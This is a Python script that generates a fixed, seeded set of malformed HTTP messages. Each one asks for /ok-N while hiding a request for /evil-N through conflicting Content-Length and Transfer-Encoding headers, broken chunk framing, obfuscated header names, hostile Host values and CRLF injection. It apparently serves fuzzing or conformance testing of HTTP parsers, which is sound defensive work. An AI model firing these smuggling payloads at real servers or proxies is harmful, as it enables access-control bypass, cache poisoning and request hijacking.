"""smuggle.py [COUNT] - odd and malformed HTTP messages, the same ones every time.

Each message asks openly for /ok-N and tries to hide a request for /evil-N: in a body, behind it, in
a field, between two lengths.  messages() gives (name, bytes); run as a program it prints them.
"""
import itertools
import random
import sys

# {e} is the hidden request
EVIL = 'GET /evil-{n} HTTP/1.1\r\nHost: origin.test{p}\r\n\r\n'

LINES = ['POST /ok-{n} HTTP/1.1', 'GET /ok-{n} HTTP/1.1', 'POST /ok-{n} HTTP/1.0', 'POST  /ok-{n} HTTP/1.1',
         'POST /ok-{n} HTTP/1.1 ', 'POST /ok-{n}\tHTTP/1.1', 'POST http://origin.test{p}/ok-{n} HTTP/1.1', 'POST /ok-{n} HTTP/1.2',
         'POST /ok-{n}', 'POST /ok-{n} http/1.1', 'POST /ok-{n}?a=/evil-{n} HTTP/1.1', 'POST /ok-{n}/../evil-{n} HTTP/1.1',
         'POST /ok-{n}%0d%0aGET%20/evil-{n} HTTP/1.1', 'POST /ok-{n}#/evil-{n} HTTP/1.1', '\r\nPOST /ok-{n} HTTP/1.1',
         'POST //ok-{n} HTTP/1.1', 'POST /x/..;/ok-{n} HTTP/1.1', 'HEAD /ok-{n} HTTP/1.1', 'DELETE /ok-{n} HTTP/1.1']

HOSTS = ['Host: origin.test{p}', 'Host: origin.test{p}\r\nHost: evil.test', 'Host: evil.test', '', 'Host:origin.test{p}',
         'host: ORIGIN.test{p}', 'Host : origin.test{p}', 'Host: origin.test{p}, evil.test', 'X: y\r\n Host: evil.test\r\nHost: origin.test{p}']

# {l} is the length of the body as framed, {z} a wrong one
FRAMES = ['Content-Length: {l}', 'Transfer-Encoding: chunked', 'Content-Length: {l}\r\nTransfer-Encoding: chunked',
          'Transfer-Encoding: chunked\r\nContent-Length: {l}', 'Content-Length: {z}\r\nContent-Length: {l}',
          'Content-Length: {l}\r\nContent-Length: {l}', 'Content-Length: {l}, {l}', 'Content-Length: +{l}', 'Content-Length: 0{l}',
          'Content-Length: {l} ', 'Content-Length:\t{l}', 'Content-Length : {l}', 'Content-Length: 0x{l}', 'Content-Length: -1',
          'Content-Length: ', 'Content-Length: 99999999999999999999', 'Content-Length: {l}\rX: y', 'Content_Length: {l}',
          'Content-Length: 0', 'Content-Length: {z}', 'Transfer-Encoding: xchunked', 'Transfer-Encoding: chunked, identity',
          'Transfer-Encoding: identity, chunked', 'Transfer-Encoding: gzip, chunked', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked',
          'Transfer-Encoding:\x0bchunked', 'Transfer-Encoding: chunked\x00', 'Transfer-Encoding : chunked', ' Transfer-Encoding: chunked',
          'X: y\r\n Transfer-Encoding: chunked', 'Transfer-Encoding:\r\n chunked', 'Transfer-Encoding: CHUNKED',
          'transfer-encoding: chunked\r\nTransfer_Encoding: identity', 'Transfer-Encoding: "chunked"', 'Transfer-Encoding: chunked;q=1',
          'Transfer-Encoding: chun\x00ked', 'Transfer-Encoding: \xa0chunked', 'Transfer-Encoding\xa0: chunked', 'X-A: b\nTransfer-Encoding: chunked',
          'X-A: b\rTransfer-Encoding: chunked', 'Connection: Content-Length\r\nContent-Length: {l}',
          'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked', 'TE: chunked\r\nContent-Length: {l}',
          'Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\nContent-Length: {l}',
          'Expect: 100-continue\r\nContent-Length: {l}', 'Trailer: Content-Length\r\nTransfer-Encoding: chunked', '',
          'Content-Length: {l}\r\nX: {e}', 'Transfer-Encoding: chunked\r\nX-Content-Length: {l}', 'Content-Length: {l}\x0b',
          'Content-Length: 1e1', 'Content-Length: {l}\r\nContent-Length : {z}', 'Max-Forwards: 0\r\nContent-Length: {l}']

# bodies that look whole in one reading and hide something in another
BODIES = ['{e}', '0\r\n\r\n{e}', '1\r\na\r\n0\r\n\r\n{e}', '{h}\r\n{e}\r\n0\r\n\r\n', '{h};x=y\r\n{e}\r\n0\r\n\r\n', '0\r\nX: y\r\n\r\n{e}',
          '0\r\nContent-Length: 5\r\n\r\n{e}', '0\r\nHost: evil.test\r\n\r\n{e}', '0\n\n{e}', '+0\r\n\r\n{e}', '0x0\r\n\r\n{e}',
          ' 0\r\n\r\n{e}', '0 \r\n\r\n{e}', '00000000000000000000\r\n\r\n{e}', '10000000000000000\r\n{e}', 'ffffffffffffffff\r\n{e}',
          '1\r\naX{e}', '1\ra\r\n0\r\n\r\n{e}', '1\r\na\n0\r\n\r\n{e}', '0;{e}\r\n\r\n', '1;\n{e}\r\na\r\n0\r\n\r\n', '0\r\n\r{e}', '0\r\nX: y\n\n{e}',
          '0\r\n {e}\r\n\r\n', '5\r\nhello\r\n0\r\n\r\n', '', 'x', '\r\n{e}', '\n{e}', 'a' * 70000 + '{e}', '2\r\n\r\n\r\n0\r\n\r\n{e}',
          '0\r\n\r\n0\r\n\r\n{e}', '3\r\nabc\r\n{h}\r\n{e}\r\n0\r\n\r\n']


def build(n, line, host, frame, body, port):
    p = f':{port}' if port != 80 else ''
    evil = EVIL.format(n=n, p=p)
    body = body.replace('{e}', evil).replace('{h}', f'{len(evil):x}')
    frame = frame.replace('{l}', str(len(body))).replace('{z}', str(max(0, len(body) - len(evil)))).replace('{e}', '/evil-%d' % n)
    head = '\r\n'.join(x.replace('{n}', str(n)).replace('{p}', p) for x in (line, host, frame) if x)
    return (head + '\r\n\r\n' + body).encode('latin1')


def messages(count, port=80, seed=1):
    """Every frame with every body first, then what chance makes of all lists."""
    chance = random.Random(seed)
    plain = list(itertools.product(LINES[:2], HOSTS[:1], FRAMES, BODIES))
    if count < len(plain):
        plain = chance.sample(plain, count // 2)
    for n, parts in enumerate(plain):
        yield '%s | %s | %s | %.40s' % parts, build(n, *parts, port)
    for n in range(len(plain), count):
        parts = tuple(chance.choice(x) for x in (LINES, HOSTS, FRAMES, BODIES))
        raw = build(n, *parts, port)
        kind = chance.randrange(4)
        if kind == 1:                       # two at once
            raw += build(n, *(chance.choice(x) for x in (LINES, HOSTS, FRAMES, BODIES)), port)
        elif kind == 2:                     # a byte changed
            at = chance.randrange(min(len(raw), 400))
            raw = raw[:at] + bytes([chance.choice(b'\0\t\n\r :;,0\x7f\xff')]) + raw[at + 1:]
        elif kind == 3:                     # cut
            raw = raw[:chance.randrange(len(raw))]
        yield '%s | %s | %s | %.40s' % parts, raw


if __name__ == '__main__':
    for name, raw in messages(int(sys.argv[1]) if len(sys.argv) > 1 else 100):
        print(repr(name), repr(raw[:2000]))
